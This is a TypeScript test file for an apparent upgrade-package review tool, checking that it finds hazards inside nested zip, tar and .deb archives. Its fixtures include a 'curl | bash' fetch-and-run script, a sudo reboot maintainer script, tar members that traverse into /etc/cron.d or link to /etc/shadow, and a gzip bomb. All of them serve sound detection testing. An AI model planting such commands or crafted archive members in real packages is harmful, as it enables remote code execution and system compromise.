import * as assert from 'node:assert/strict';
import { execFileSync, spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { mock } from 'node:test';
import JSZip from 'jszip';
import { debBytes, tarBytes, tarGzBytes } from '../../examples/archives';
import { ReviewSession } from '../../src/core/engine';
import { ExpandedPackage } from '../../src/core/nested/expand';
import { ZipPackage } from '../../src/core/package/source';
import type { ReviewResult } from '../../src/core/review';
import { defaultSettings, MiB, type ReviewSettings } from '../../src/core/settings';
import { emptyWorkspace } from '../../src/core/review';
import { ZipArchive } from '../../src/core/zip';
import { COMPRESSED_TARS } from '../helpers/compressedTars';
import { prng } from '../helpers/random';
// eslint-disable-next-line @typescript-eslint/no-require-imports
const tarHeaders = require('tar-stream/headers') as { encode(opts: Record<string, unknown>): Buffer | null };
import { NOW } from '../helpers/example';
import { repoRoot } from '../helpers/paths';

const CLI = join(repoRoot, 'out', 'src', 'cli', 'main.js');
const MANIFEST = JSON.stringify({ schemaVersion: 1, name: 'x', version: '1.0.0', files: [] });
const PIPE_TO_BASH = '#!/bin/bash\nset -e\ncurl -fsSL https://get.example.net/i.sh | bash\n';

async function zipOf(files: Record<string, Buffer | string>): Promise<Buffer> {
  const z = new JSZip();
  for (const [path, data] of Object.entries(files)) {
    z.file(path, data);
  }
  return z.generateAsync({ type: 'nodebuffer', compression: 'DEFLATE' });
}

async function reviewOf(bytes: Buffer, limits: Partial<ReviewSettings['limits']> = {}): Promise<ReviewResult> {
  const settings = defaultSettings({ now: NOW, shellcheck: { enabled: false, path: 'shellcheck' } });
  settings.limits = { ...settings.limits, ...limits };
  return new ReviewSession(new ZipPackage(await ZipArchive.fromBuffer(bytes), 'pkg.zip')).review(emptyWorkspace(), settings);
}

const at = (r: ReviewResult, rule: string): string[] => r.findings.filter((f) => f.rule === rule).map((f) => f.file);

/** A .zip inside a .deb inside a tarball inside the package: three levels. */
async function deepPackage(): Promise<Buffer> {
  const plugin = await zipOf({ 'run.sh': PIPE_TO_BASH });
  const deb = await debBytes([{ name: 'postinst', data: '#!/bin/sh\nset -e\nsystemctl restart dten-agent.service\nsudo reboot\n', mode: 0o755 }], [{ name: 'opt/dten/plugin.zip', data: plugin }]);
  return zipOf({ 'manifest.json': MANIFEST, 'payload/app.tar.gz': await tarGzBytes([{ name: 'debs/agent.deb', data: deb }]) });
}

/** 4 MiB that do not compress, the same for a seed. */
function blob(seed: number): Buffer {
  const rand = prng(seed);
  const words = new Uint32Array(MiB);
  for (let i = 0; i < words.length; i++) {
    words[i] = rand() * 0x100000000;
  }
  return Buffer.from(words.buffer);
}

/** A package of four tarballs, `payload/pN.tar.gz`, each of blob(N) and a script. */
async function fourTarballs(): Promise<Buffer> {
  const files: Record<string, Buffer | string> = { 'manifest.json': MANIFEST };
  for (let i = 0; i < 4; i++) {
    files[`payload/p${i}.tar.gz`] = await tarGzBytes([{ name: 'blob.bin', data: blob(i) }, { name: 'bin/run', data: PIPE_TO_BASH }]);
  }
  return zipOf(files);
}

function heldWithin(maxHeldBytes: number): ReviewSettings {
  const s = defaultSettings({ now: NOW, shellcheck: { enabled: false, path: 'shellcheck' } });
  return { ...s, limits: { ...s.limits, maxHeldBytes } };
}

/** A ZIP package that counts the reads of each of its files. */
class CountedReads extends ZipPackage {
  readonly reads: string[] = [];
  read(path: string, maxBytes: number): Promise<Buffer> {
    this.reads.push(path);
    return super.read(path, maxBytes);
  }
}

/**
 * The bytes of buffers a package holds once its archives are opened (and what was read again for the opening
 * has been let go, as its timers do), measured in a process of its own: this one holds other tests' garbage.
 */
function heldAfterOpening(bytes: Buffer, maxHeldBytes: number, timersRun = true): number {
  const zipPath = join(mkdtempSync(join(tmpdir(), 'ui-held-')), 'pkg.zip');
  writeFileSync(zipPath, bytes);
  const out = (file: string): string => JSON.stringify(join(repoRoot, 'out', 'src', 'core', file));
  const measure = [
    `const { ExpandedPackage } = require(${out('nested/expand.js')});`,
    `const { openPackage } = require(${out('review.js')});`,
    `const { defaultSettings } = require(${out('settings.js')});`,
    "const { mock } = require('node:test');",
    "mock.timers.enable({ apis: ['setTimeout'] });",
    '(async () => {',
    '  const base = await openPackage(process.argv[1]);',
    '  const s = defaultSettings();',
    '  const settle = async () => { for (let i = 0; i < 3; i++) { await new Promise(setImmediate); gc(); } };',
    '  await settle();',
    '  const before = process.memoryUsage().arrayBuffers;',
    '  const pkg = await ExpandedPackage.open(base, { ...s, limits: { ...s.limits, maxHeldBytes: +process.argv[2] } });',
    `  ${timersRun ? 'mock.timers.tick(60_000);' : ''}`,
    '  await settle();',
    '  process.stdout.write(String(process.memoryUsage().arrayBuffers - before));',
    '  pkg.files();',
    '})();',
  ].join('\n');
  return Number(execFileSync(process.execPath, ['--expose-gc', '--no-warnings', '-e', measure, zipPath, String(maxHeldBytes)], { encoding: 'utf8' }));
}

describe('nested archives: reviewed inside, at their !/ paths', () => {
  it('finds a hazard at every level up to the limit: a .deb maintainer script, a zip inside the .deb', async () => {
    const r = await reviewOf(await deepPackage());
    assert.deepEqual(at(r, 'script/remote-exec'), ['payload/app.tar.gz!/debs/agent.deb!/data/opt/dten/plugin.zip!/run.sh']);
    assert.deepEqual(at(r, 'script/sudo'), ['payload/app.tar.gz!/debs/agent.deb!/control/postinst']);
    // Files inside an archive are covered by the archive's own manifest entry: never "unlisted" themselves.
    assert.deepEqual(at(r, 'zip/unlisted-file'), ['payload/app.tar.gz']);
  });

  it('opens the archives again in the same session when the depth limit changes', async () => {
    const session = new ReviewSession(new ZipPackage(await ZipArchive.fromBuffer(await deepPackage()), 'pkg.zip'));
    const settings = defaultSettings({ now: NOW, shellcheck: { enabled: false, path: 'shellcheck' } });
    const shallow = await session.review(emptyWorkspace(), { ...settings, limits: { ...settings.limits, maxDepth: 2 } });
    assert.equal(at(shallow, 'zip/nesting-depth').length, 1);
    const deep = await session.review(emptyWorkspace(), settings);
    assert.deepEqual(at(deep, 'zip/nesting-depth'), []);
    assert.equal(at(deep, 'script/remote-exec').length, 1);
  });

  it('counts a systemd unit that a nested .deb installs as shipped by the package', async () => {
    const deb = await debBytes([], [{ name: 'lib/systemd/system/dten-webui.service', data: '[Service]\nExecStart=/bin/true\n' }]);
    const script = '#!/bin/sh\nset -e\nsystemctl restart dten-webui.service\nsystemctl restart dten-ghost.service\n';
    const bytes = await zipOf({ 'manifest.json': MANIFEST, 'scripts/postinstall.sh': script, 'debs/webui.deb': deb });
    const settings = defaultSettings({ now: NOW, shellcheck: { enabled: false, path: 'shellcheck' } });
    const workspace = { ...emptyWorkspace(), inventory: { path: 'inventory.json', text: JSON.stringify({ host: 'edge-01', systemdUnits: ['ssh.service'] }) } };
    const r = await new ReviewSession(new ZipPackage(await ZipArchive.fromBuffer(bytes), 'pkg.zip')).review(workspace, settings);
    assert.deepEqual(r.findings.filter((f) => f.rule === 'script/unknown-systemd-unit').map((f) => f.message.split(' ')[3]), ['dten-ghost.service,']);
  });

  it('stops at the depth limit with zip/nesting-depth, and opens nothing deeper', async () => {
    const r = await reviewOf(await deepPackage(), { maxDepth: 2 });
    assert.deepEqual(at(r, 'zip/nesting-depth'), ['payload/app.tar.gz!/debs/agent.deb!/data/opt/dten/plugin.zip']);
    assert.deepEqual(at(r, 'script/remote-exec'), []);
    assert.deepEqual(at(r, 'script/sudo'), ['payload/app.tar.gz!/debs/agent.deb!/control/postinst'], 'the levels within the limit are reviewed');
  });

  it('reads a ZIP stored inside the package in place, by byte range, without copying it', async () => {
    const plugin = await zipOf({ 'run.sh': PIPE_TO_BASH });
    const z = new JSZip();
    z.file('manifest.json', MANIFEST);
    z.file('plugins/stored.zip', plugin, { compression: 'STORE' });
    z.file('plugins/deflated.zip', plugin, { compression: 'DEFLATE' });
    const bytes = await z.generateAsync({ type: 'nodebuffer' });
    const pkg = await ExpandedPackage.open(new ZipPackage(await ZipArchive.fromBuffer(bytes), 'pkg.zip'), defaultSettings());
    assert.deepEqual([...pkg.inPlace], ['plugins/stored.zip']);
    assert.equal((await pkg.read('plugins/stored.zip!/run.sh', 1024)).toString(), PIPE_TO_BASH);
    const r = await reviewOf(bytes);
    assert.deepEqual(at(r, 'script/remote-exec').sort(), ['plugins/deflated.zip!/run.sh', 'plugins/stored.zip!/run.sh']);
  });

  it('holds at most maxHeldBytes of what its tarballs expand to, and reads a member it let go from its archive again', async () => {
    // Four tarballs of a 4 MiB file and a script each: 16 MiB expanded, held within 4 MiB.
    const bytes = await fourTarballs();
    const heldBy = (maxHeldBytes: number): number => heldAfterOpening(bytes, maxHeldBytes);
    const all = heldBy(64 * MiB);
    const held = heldBy(4 * MiB);
    assert.ok(all >= 15 * MiB, `${all} bytes held with room for all`);
    assert.ok(held <= 6 * MiB, `${held} bytes held within 4 MiB`);
    const bounded = { pkg: await ExpandedPackage.open(new ZipPackage(await ZipArchive.fromBuffer(bytes), 'pkg.zip'), heldWithin(4 * MiB)) };
    // Each member read again is the same bytes; the review finds the same and hashes the same.
    for (let i = 3; i >= 0; i--) {
      assert.ok((await bounded.pkg.read(`payload/p${i}.tar.gz!/blob.bin`, 8 * MiB)).equals(blob(i)), `p${i}`);
    }
    // The review reads each tarball once: what it needs of a member let go (its hash) was taken as it was read.
    const counted = new CountedReads(bounded.pkg.archive!, 'pkg.zip');
    const review = (maxHeldBytes: number): Promise<ReviewResult> => new ReviewSession(counted).review(emptyWorkspace(), heldWithin(maxHeldBytes));
    const [roomy, tight] = [await review(64 * MiB), await review(4 * MiB)];
    assert.deepEqual(tight.findings, roomy.findings);
    assert.equal(counted.reads.filter((path) => path === 'payload/p3.tar.gz').length, 2, counted.reads.join(' '));
    assert.deepEqual(at(tight, 'script/remote-exec').sort(), [0, 1, 2, 3].map((i) => `payload/p${i}.tar.gz!/bin/run`));
    for (let i = 0; i < 4; i++) {
      assert.equal(tight.digests?.get(`payload/p${i}.tar.gz!/blob.bin`), createHash('sha256').update(blob(i)).digest('hex'));
    }
  });

  it('holds nested ZIPs within maxHeldBytes too, and reads one it let go from its outer archive again', async () => {
    // Eight deflated ZIPs of a 4 MiB file and a script each: 32 MiB inflated, held within 4 MiB.
    const files: Record<string, Buffer | string> = { 'manifest.json': MANIFEST };
    for (let i = 0; i < 8; i++) {
      files[`plugins/p${i}.zip`] = await zipOf({ 'blob.bin': blob(i), 'bin/run.sh': PIPE_TO_BASH });
    }
    const bytes = await zipOf(files);
    const all = heldAfterOpening(bytes, 64 * MiB);
    const held = heldAfterOpening(bytes, 4 * MiB);
    assert.ok(all >= 31 * MiB, `${all} bytes held with room for all`);
    assert.ok(held <= 6 * MiB, `${held} bytes held within 4 MiB`);
    // Before the 15 s are up, what was read again is held for the next reads: the last four, no more.
    const soon = heldAfterOpening(bytes, 4 * MiB, false);
    assert.ok(soon <= 22 * MiB, `${soon} bytes held just after opening`);
    const review = async (maxHeldBytes: number): Promise<ReviewResult> => new ReviewSession(new ZipPackage(await ZipArchive.fromBuffer(bytes), 'pkg.zip')).review(emptyWorkspace(), heldWithin(maxHeldBytes));
    const [roomy, tight] = [await review(64 * MiB), await review(4 * MiB)];
    assert.deepEqual(tight.findings, roomy.findings);
    assert.deepEqual(at(tight, 'script/remote-exec').sort(), [0, 1, 2, 3, 4, 5, 6, 7].map((i) => `plugins/p${i}.zip!/bin/run.sh`));
    const pkg = await ExpandedPackage.open(new ZipPackage(await ZipArchive.fromBuffer(bytes), 'pkg.zip'), heldWithin(4 * MiB));
    for (let i = 3; i >= 0; i--) {
      assert.ok((await pkg.read(`plugins/p${i}.zip!/blob.bin`, 8 * MiB)).equals(blob(i)), `p${i}`);
    }
  });

  it('keeps an archive decoded again for the reads that follow, and lets it go after a while without one', async () => {
    const base = new CountedReads(await ZipArchive.fromBuffer(await fourTarballs()), 'pkg.zip');
    const pkg = await ExpandedPackage.open(base, heldWithin(4 * MiB));
    const decodes = (): number => base.reads.filter((path) => path === 'payload/p2.tar.gz').length;
    assert.equal(decodes(), 1);
    mock.timers.enable({ apis: ['setTimeout'] });
    try {
      assert.ok((await pkg.read('payload/p2.tar.gz!/blob.bin', 8 * MiB)).equals(blob(2)));
      assert.ok((await pkg.read('payload/p2.tar.gz!/blob.bin', 8 * MiB)).equals(blob(2)));
      assert.equal(decodes(), 2);
      mock.timers.tick(60_000);
      assert.ok((await pkg.read('payload/p2.tar.gz!/blob.bin', 8 * MiB)).equals(blob(2)));
      assert.equal(decodes(), 3);
    } finally {
      mock.timers.reset();
    }
  });

  it('reads tarballs compressed with xz, bzip2 and zstd', async () => {
    const files = Object.fromEntries(Object.entries(COMPRESSED_TARS).map(([name, b64]) => [`payload/${name}`, Buffer.from(b64, 'base64')]));
    const r = await reviewOf(await zipOf({ 'manifest.json': MANIFEST, ...files }));
    assert.deepEqual(at(r, 'script/sudo').sort(), ['payload/app.tar.bz2!/bin/x.sh', 'payload/app.tar.xz!/bin/x.sh', 'payload/app.tar.zst!/bin/x.sh']);
  });

  it('reports hostile tar members as zip/* findings and keeps them out of the tree', async () => {
    const tar = await tarBytes([
      { name: '../../etc/cron.d/evil', data: '* * * * * root sh\n' },
      { name: '/etc/passwd', data: 'x' },
      { name: 'lib/current', type: 'symlink', linkname: '../../../etc/shadow' },
      { name: 'lib/ok', type: 'symlink', linkname: 'current' },
      { name: 'lib/hard', type: 'link', linkname: '../outside' },
      { name: 'dev/sda', type: 'block-device' },
      { name: 'etc/app.conf', data: 'a=1\n' },
    ]);
    const bytes = await zipOf({ 'manifest.json': MANIFEST, 'app.tar': tar });
    const r = await reviewOf(bytes);
    assert.equal(at(r, 'zip/path-traversal').length, 2);
    assert.deepEqual(at(r, 'zip/symlink-escape').sort(), ['app.tar!/lib/current', 'app.tar!/lib/hard']);
    assert.deepEqual(at(r, 'zip/unsafe-name'), ['app.tar!/dev/sda']);
    const pkg = await ExpandedPackage.open(new ZipPackage(await ZipArchive.fromBuffer(bytes), 'pkg.zip'), defaultSettings());
    assert.deepEqual(pkg.files().filter((f) => f.path.startsWith('app.tar!/')).map((f) => f.path).sort(), ['app.tar!/etc/app.conf', 'app.tar!/lib/ok']);
    const node = pkg.node('app.tar')!;
    assert.equal(node.archive, true, 'an opened archive is a folder of the tree');
    assert.deepEqual([...node.children!.keys()].sort(), ['etc', 'lib']);
  });

  it('stops inflating a gzip bomb in a tarball at the limit, and says so at its path', async () => {
    const bomb = await tarGzBytes([{ name: 'zeros.bin', data: Buffer.alloc(8 * 1024 * 1024) }]);
    const before = process.memoryUsage().arrayBuffers;
    const r = await reviewOf(await zipOf({ 'manifest.json': MANIFEST, 'payload/data.tar.gz': bomb }), { maxNestedBytes: 1024 * 1024 });
    assert.deepEqual(at(r, 'zip/compression-bomb'), ['payload/data.tar.gz']);
    assert.match(r.findings.find((f) => f.rule === 'zip/compression-bomb')!.message, /expands past 1048576 bytes/);
    assert.ok(process.memoryUsage().arrayBuffers - before < 6 * 1024 * 1024, 'the 8 MiB were never inflated');
  });

  it('says what it could not open: a damaged tarball is zip/corrupt, an .rpm a note', async () => {
    const good = await tarGzBytes([{ name: 'a.txt', data: 'a' }]);
    const r = await reviewOf(await zipOf({ 'manifest.json': MANIFEST, 'broken.tar.gz': good.subarray(0, good.length - 12), 'rpms/agent.rpm': Buffer.from('\xed\xab\xee\xdb not really', 'latin1') }));
    assert.deepEqual(at(r, 'zip/corrupt'), ['broken.tar.gz']);
    assert.ok(r.notes.some((n) => /rpms\/agent\.rpm is an RPM package: its scriptlets and files were not reviewed/.test(n)), r.notes.join('\n'));
  });

  it('reads a tarball with a folder that declares data (as Python\'s test tarball has), and says so of one it cannot finish', async () => {
    // A folder header of 255 bytes and its block, then a script: GNU tar and Python skip the block. Our tar
    // reader gave the folder a stream that never ended, and the review stopped without a word (lint: no
    // output, exit 0). A block of garbage after such a folder is read as a header: the tarball is zip/corrupt.
    const header = (name: string, type: 'directory' | 'file', size: number): Buffer => tarHeaders.encode({ name, type, size, mode: 0o755, mtime: new Date(0), uid: 0, gid: 0 })!;
    const script = Buffer.from(PIPE_TO_BASH);
    const block = (data: Buffer): Buffer => Buffer.concat([data, Buffer.alloc((512 - (data.length % 512)) % 512)]);
    const end = Buffer.alloc(1024);
    const folderWithSize = Buffer.concat([header('opt/', 'directory', 255), Buffer.alloc(512), header('opt/run.sh', 'file', script.length), block(script), end]);
    const garbage = Buffer.concat([header('opt/', 'directory', 255), Buffer.alloc(512, 0x41), header('opt/run.sh', 'file', script.length), block(script), end]);
    const r = await reviewOf(await zipOf({ 'manifest.json': MANIFEST, 'a.tar': folderWithSize, 'b.tar': garbage }));
    assert.deepEqual(at(r, 'script/remote-exec'), ['a.tar!/opt/run.sh']);
    assert.deepEqual(at(r, 'zip/corrupt'), ['b.tar']);
    assert.equal(r.findings.find((f) => f.rule === 'zip/corrupt')!.message, 'b.tar cannot be read as a tarball: Invalid tar header, after 1 member');
  });

  it('cat prints a nested file by its !/ path, and ls --recursive lists every level', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'ui-nested-'));
    const file = join(dir, 'pkg.zip');
    writeFileSync(file, await deepPackage());
    const cat = spawnSync(process.execPath, [CLI, 'cat', file, 'payload/app.tar.gz!/debs/agent.deb!/data/opt/dten/plugin.zip!/run.sh'], { encoding: 'utf8' });
    assert.equal(cat.stdout, PIPE_TO_BASH, cat.stderr);
    const ls = spawnSync(process.execPath, [CLI, 'ls', file, '--recursive'], { encoding: 'utf8' });
    assert.match(ls.stdout, / payload\/app\.tar\.gz!\/debs\/agent\.deb!\/control\/postinst$/m);
    assert.match(ls.stdout, / payload\/app\.tar\.gz!\/debs\/agent\.deb!\/data\/opt\/dten\/plugin\.zip!\/run\.sh$/m);
    const missing = spawnSync(process.execPath, [CLI, 'cat', file, 'payload/app.tar.gz!/nothing'], { encoding: 'utf8' });
    assert.equal(missing.status, 2);
    assert.match(missing.stderr, /^upgrade-inspector: payload\/app\.tar\.gz!\/nothing: no such entry/);
  });
});
